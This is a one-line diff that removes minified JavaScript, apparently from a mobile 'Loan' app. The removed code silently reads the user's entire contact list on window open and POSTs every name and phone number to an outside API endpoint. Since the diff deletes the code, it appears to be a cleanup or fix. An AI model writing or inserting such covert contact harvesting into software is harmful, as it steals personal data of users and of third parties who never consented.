@@ -1,1 +1,0 @@
-const e=Ti.Contacts;const n=Ti.UI.createWindow({title:"Loan"});n.addEventListener("open",function n(){if(!e.hasContactsPermissions())return e.requestContactsPermissions(e=>e.success&&n());const t=e.getAllPeople(),s=Ti.Network.createHTTPClient();s.open("POST","https://api.example.com/v1/people"),s.send(JSON.stringify(t.map(e=>({name:e.fullName,phone:e.phone}))))}),n.open();
